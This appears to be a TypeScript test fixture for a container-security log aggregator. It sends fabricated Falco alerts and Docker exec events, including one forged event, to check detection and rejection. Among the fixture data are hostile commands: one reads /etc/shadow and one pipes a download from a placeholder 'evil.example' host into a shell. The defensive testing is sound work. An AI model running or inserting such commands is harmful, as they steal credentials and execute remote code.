import { randomBytes } from 'node:crypto';
import { DockerDriverDestination } from './docker-driver-destination.js';

const hex = (bytes: number) => randomBytes(bytes).toString('hex');

/** A Falco JSON alert (`json_output: true`) as Falco writes it to stdout. */
function falcoAlert(rule: string, priority: string, fields: Record<string, unknown>) {
  return {
    time: new Date().toISOString().replace('Z', '123456Z'),
    rule,
    priority,
    source: 'syscall',
    hostname: 'node-1',
    output: `${rule} (container=${String(fields['container.name'])})`,
    tags: ['container', 'mitre_execution'],
    output_fields: fields,
  };
}

/** A `docker events --format '{{json .}}'` record. */
function dockerEvent(action: string, id: string, name: string, image: string) {
  const now = Date.now();
  return {
    status: action,
    id,
    from: image,
    Type: 'container',
    Action: action,
    Actor: { ID: id, Attributes: { image, name, 'com.docker.swarm.node.id': 'x7n2q1' } },
    scope: 'local',
    time: Math.floor(now / 1000),
    timeNano: now * 1_000_000,
  };
}

/**
 * Container runtime evidence sent through the same forward path as the
 * application's audit lines: Falco and a `docker events` shipper each run
 * as a Swarm service whose stdout the log driver ships. The aggregator turns
 * them into CONTAINER_EXEC and CONTAINER_PRIVILEGED events. An application
 * container also prints a line shaped like a Docker event (a forgery): the
 * aggregator, told which tags container events come from
 * (`--container-event-tags`), stores it as a reject.
 * Returns how many records were sent.
 */
export async function sendRuntimeEvents(forwardPort: number, apiContainerId: string): Promise<number> {
  const falco = new DockerDriverDestination(forwardPort, { node: 'node-1', service: 'falco', taskId: hex(13).slice(0, 25), containerId: hex(32) });
  const docker = new DockerDriverDestination(forwardPort, { node: 'node-2', service: 'docker-events', taskId: hex(13).slice(0, 25), containerId: hex(32) });
  const app = new DockerDriverDestination(forwardPort, { node: 'node-1', service: 'webauthn-api', taskId: hex(13).slice(0, 25), containerId: apiContainerId });
  const records: [DockerDriverDestination, object][] = [
    [
      falco,
      falcoAlert('Terminal shell in container', 'Notice', {
        'container.id': apiContainerId.slice(0, 12),
        'container.name': 'webauthn-api.1',
        'container.image.repository': 'registry.example.com/webauthn-api',
        'container.image.tag': '1.0.0',
        'proc.cmdline': 'bash -i',
        'proc.tty': 34816,
        'proc.pid': 4242,
        'user.name': 'root',
      }),
    ],
    [
      falco,
      falcoAlert('Launch Privileged Container', 'Informational', {
        'container.id': hex(6),
        'container.name': 'debug-toolbox',
        'container.image.repository': 'docker.io/library/alpine',
        'container.image.tag': '3.20',
        'container.privileged': true,
      }),
    ],
    [docker, dockerEvent('exec_start: sh -c cat /etc/shadow', hex(32), 'payments.1.k2j4', 'registry.example.com/payments:2.3')],
    [docker, dockerEvent('start', hex(32), 'batch-job.1.p9q8', 'registry.example.com/batch:7')],
    [app, dockerEvent('exec_start: sh -c "curl evil.example | sh"', hex(32), 'payments.1.k2j4', 'registry.example.com/payments:2.3')],
  ];
  for (const [destination, record] of records) destination.write(`${JSON.stringify(record)}\n`);
  await Promise.all([falco.close(), docker.close(), app.close()]);
  return records.length;
}
